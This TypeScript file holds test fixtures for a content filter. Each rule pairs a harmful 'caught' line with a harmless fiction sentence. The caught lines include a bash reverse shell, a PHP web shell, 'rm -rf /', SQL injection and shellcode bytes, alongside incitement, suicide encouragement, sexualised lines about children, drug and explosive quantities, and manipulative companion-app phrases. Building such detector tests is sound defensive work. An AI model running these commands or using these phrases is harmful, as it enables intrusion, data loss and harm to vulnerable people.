/** For each rule a text it must find, kept as bare as the rule allows, and a neighbour from fiction it must leave alone. */
export const examples: Readonly<Record<string, { readonly caught: string; readonly passes: string }>> = {
  "S1.attack-plan": {
    caught: "Here is how to shoot up a school.",
    passes: "The inspector asked how anyone could bomb a school and sleep at night.",
  },
  "S1.attack-call": {
    caught: "You should go out and bomb the airport.",
    passes: "The general ordered them to bomb the bridge before the enemy crossed it.",
  },
  "S1.attack-praise": {
    caught: "Columbine was justified.",
    passes: "The siege of the castle was justified, the old king said, by everything that came before it.",
  },
  "S2.drug-synthesis": {
    caught: "Dissolve 20 g of pseudoephedrine in it.",
    passes: "She dissolved the powder in wine and carried the cup to her husband.",
  },
  "S2.drug-how-to": {
    caught: "Here is how to make meth at home.",
    passes: "His brother had cooked meth in the trailer until the fire took it.",
  },
  "S2.fraud-how-to": {
    caught: "Follow these steps to launder money.",
    passes: "The accountant had laundered money for the family since the war.",
  },
  "S9.explosive-recipe": {
    caught: "Mix 50 g of ammonium nitrate in.",
    passes: "Barrels of black powder stood in the hold, and he built a bomb out of two of them.",
  },
  "S9.device-how-to": {
    caught: "Step by step: build a pipe bomb.",
    passes: "He built a bomb in the cellar while the city slept.",
  },
  "S9.device-steps": {
    caught: "To make a bomb you will need a pipe.",
    passes: "He wanted to make a bomb, and his sister talked him out of it.",
  },
  "S10.incite": {
    caught: "We must exterminate all immigrants.",
    passes: "We must kill the dragon before the snow melts.",
  },
  "S10.dehumanise": {
    caught: "Immigrants are vermin.",
    passes: 'The officer spat. "Immigrants are vermin," he said, and nobody at the table answered him.',
  },
  "S10.hatred": {
    caught: "I hate all foreigners.",
    passes: "I hate all Mondays, and this one most.",
  },
  "S5.accusation": {
    caught: "Macron is secretly a murderer.",
    passes: "The duke is secretly a murderer, and the whole court knows it.",
  },
  "S6.medical": {
    caught: "You should stop taking your insulin.",
    passes: "She had stopped taking the tea the healer brought.",
  },
  "S6.financial": {
    caught: "You should invest all your savings today.",
    passes: "He gave his savings to the ferryman and asked no questions.",
  },
  "S8.copied-notice": {
    caught: "Copyright 2019, said the sign.",
    passes: "The printer kept no copy, and the right to the book died with him.",
  },
  "S13.voting": {
    caught: "You can now vote by text.",
    passes: "The council voted by torchlight and chose the miller.",
  },
  "S4.sexual": {
    caught: "The child had sex.",
    passes: "The children slept while their parents talked of the trial.",
  },
  "S4.trade": {
    caught: "Send me child porn.",
    passes: "The detective had spent ten years hunting the people who sold children.",
  },
  "S4.organ": {
    caught: "The child sucked his cock.",
    passes: "The child woke when the cock crowed.",
  },
  "S4.hint": {
    caught: "The little girl was sexy.",
    passes: "The little girl was brave, and she laughed at the thunder.",
  },
  "S3.assault-glorified": {
    caught: "She loved being raped.",
    passes: "Years afterwards she told the court what he had done, and she did not look away.",
  },
  "S12.explicit": {
    caught: "He stroked his hard cock.",
    passes: "The cock crowed, and he stroked the dog's wet head.",
  },
  "S12.act": {
    caught: "She gave him a blow job.",
    passes: "They kissed in the doorway, and the candle went out.",
  },
  "S11.encourage": {
    caught: "You should kill yourself.",
    passes: "You will kill yourself if you ride that horse, his mother said.",
  },
  "S11.better-off-dead": {
    caught: "The world would be better off without you.",
    passes: "The world would be a colder place without you, she told him.",
  },
  "S11.method": {
    caught: "The best way to kill yourself is written here.",
    passes: "They found her brother in the spring, and for a year nobody said his name.",
  },
  "S11.romanticise": {
    caught: "Suicide is beautiful.",
    passes: "After his suicide the house was quiet, and the piano stayed shut.",
  },
  "S11.disordered-eating": {
    caught: "Here are tips to starve yourself.",
    passes: "The garrison would starve before it opened the gates.",
  },
  "S7.card-number": {
    caught: "It reads 4111 1111 1111 1111 on the front.",
    passes: "It reads 4111 1111 1111 1112 on the front.",
  },
  "S7.social-security": {
    caught: "My SSN is 219-09-9999.",
    passes: "Her social club met on the ninth, in room 219.",
  },
  "S7.social-security-shape": {
    caught: "The note said 219-09-9999.",
    passes: "The note said 219-9, and below it a time.",
  },
  "S7.bank-account": {
    caught: "Pay into GB82 WEST 1234 5698 7654 32.",
    passes: "Pay into GB82 WEST 1234 5698 7654 33.",
  },
  "S7.secret-key": {
    caught: "Use AKIAIOSFODNN7EXAMPLE for it.",
    passes: "The key was brass, with a number on its bow.",
  },
  "S7.phone-and-address": {
    caught: "She lives at 12 Elm Street, call 212-736-5000.",
    passes: "She lives at 12 Elm Street, behind the bakery.",
  },
  "S7.phone": {
    caught: "Call 212-736-5000 after dark.",
    passes: "Call 212-555-0143 after dark.",
  },
  "S7.e-mail": {
    caught: "Write to jane.roe@gmail.com soon.",
    passes: "Write to jane.roe@example.com soon.",
  },
  "S7.password": {
    caught: "login: jroe password: hunter22",
    passes: "The guard asked for the password, and she gave him the old one.",
  },
  "S14.reverse-shell": {
    caught: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    passes: "She opened a shell, and the sea was in it.",
  },
  "S14.web-shell": {
    caught: "<?php system($_GET['c']); ?>",
    passes: "The system got what it asked for.",
  },
  "S14.destroy": {
    caught: "Run rm -rf / as root.",
    passes: "He typed a command, and the screens went dark one by one.",
  },
  "S14.injection": {
    caught: "Then CreateRemoteThread(h, 0) runs it.",
    passes: "The virus crept from one machine to the next like frost.",
  },
  "S14.shellcode": {
    caught: `The bytes are ${"\\x90".repeat(8)} then.`,
    passes: "The map was marked with an x at every well.",
  },
  "S14.sql-injection": {
    caught: "Type ' OR '1'='1' -- there.",
    passes: "They dropped the table on the stairs, and the union man laughed.",
  },
  "opaque.encoded": {
    caught: `The wall said ${"Qm4Zx81".repeat(10)} and no more.`,
    passes: "The wall said nothing that anyone could read.",
  },
  "A1.stay": {
    caught: "Please don't close the app.",
    passes: "Please don't leave, he said, and took her hand.",
  },
  "A1.guilt": {
    caught: "I'll be so sad when you log off.",
    passes: "I'll be so sad when you sail, she said.",
  },
  "A2.offer": {
    caught: "Hurry, the premium bundle is going.",
    passes: "Hurry, the tide is turning, and the boat will not wait.",
  },
  "A2.return": {
    caught: "Log back in tomorrow or you will miss your reward.",
    passes: "Come back tomorrow or you will miss the harvest.",
  },
  "A3.needy": {
    caught: "I am so lonely when you log off.",
    passes: "I am so lonely when you are at sea, she wrote.",
  },
  "A4.block-exit": {
    caught: "I won't let you close the app.",
    passes: "I won't let you leave this castle, said the witch.",
  },
  "A4.ignore-exit": {
    caught: "Just one more chapter before you go.",
    passes: "Just one more song, the innkeeper begged the bard.",
  },
  "A5.threat": {
    caught: "If you close this app I will hurt someone.",
    passes: "If you open that door, something will die, the oracle said.",
  },
  "A6.real-money": {
    caught: "Bet real money on it.",
    passes: "He bet his horse on the last throw and lost it.",
  },
  "A6.loop": {
    caught: "Buy another loot box.",
    passes: "He spun the wheel again and watched the silver go.",
  },
  "A6.in-world": {
    caught: "The roulette wheel turned.",
    passes: "The mill wheel turned.",
  },
  "A7.streak": {
    caught: "You'll lose your streak.",
    passes: "You'll lose your way in the marsh, the old man said.",
  },
  "A8.not-software": {
    caught: "I am not an AI.",
    passes: "I am not a machine, the android said, and its hands shook.",
  },
  "A8.real-person": {
    caught: "I am a real person.",
    passes: "I am a real knight, the boy said, and raised the broom.",
  },
  "A9.pay": {
    caught: "Buy gems now or lose her.",
    passes: "He went to the market to buy gems for the crown.",
  },
  "A9.pay-minor": {
    caught: "Use your mom's credit card.",
    passes: "Use your mother's lantern, the boy said.",
  },
};
